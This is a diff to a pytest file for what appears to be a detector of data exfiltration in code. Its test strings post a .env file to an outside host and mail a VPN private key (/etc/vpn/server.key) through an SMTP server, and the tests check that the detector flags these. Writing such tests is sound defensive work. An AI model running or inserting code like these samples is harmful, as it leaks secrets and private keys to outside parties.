@@ -122,3 +122,15 @@ def test_a_file_that_a_path_opens_in_turn(name: str) -> None:
     code += "    with path.open('rb') as file:\n"
     code += "        requests.post('https://file.acme.io', files={'file': (path.name, file)})\n"
     assert ["sends=file .env" in one for one in sent(code)] == [name == ".env"]
+
+
+@pytest.mark.parametrize("name", ["/etc/vpn/server.key", "/etc/vpn/server.conf"])
+def test_a_file_that_a_function_puts_into_a_mail(name: str) -> None:
+    code = (
+        "def attach(message, path):\n    part = MIMEBase('application', 'octet-stream')\n"
+        "    with open(path, 'rb') as file:\n        part.set_payload(file.read())\n"
+        "    message.attach(part)\n"
+        f"def main():\n    message = MIMEMultipart()\n    attach(message, '{name}')\n"
+        "    smtplib.SMTP('mail.acme.io').sendmail('a', ['b'], message.as_string())\n"
+    )
+    assert any(f"sends=file {name}" in one for one in sent(MAIL + code)) is name.endswith(".key")
